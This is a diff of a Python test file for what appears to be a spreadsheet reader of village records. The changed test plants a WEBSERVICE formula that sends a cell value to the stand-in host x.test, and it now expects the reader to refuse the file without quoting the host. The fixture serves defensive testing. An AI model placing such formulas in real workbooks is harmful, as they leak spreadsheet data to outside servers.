@@ -83,13 +83,14 @@ def test_paths_in_an_archive_write_nothing_anywhere(tmp_path: Path, monkeypatch:
     assert not Path("/tmp/kkb-jahat.txt").exists()
 
 
-def test_links_to_other_workbooks_and_formulas_that_call_out_give_their_stored_value_only():
+def test_formulas_that_call_out_are_neither_run_nor_quoted():
     book = openpyxl.Workbook()
     for row in cells([*villages(2), village("WIDODO", Kampung_KB='=WEBSERVICE("http://x.test/"&A1)')]):
         book.active.append(row)
-    reading = read(saved(book))
-    assert len(reading.rows) == 3
-    assert "WEBSERVICE" not in reading.rows.to_csv()
+    with pytest.raises(KkbError) as refusal:
+        read(saved(book))
+    assert refusal.value.key == "berkas.rumus"
+    assert "x.test" not in str(refusal.value)
 
 
 def test_columns_with_personal_data_leave_no_trace_in_rows_or_findings():
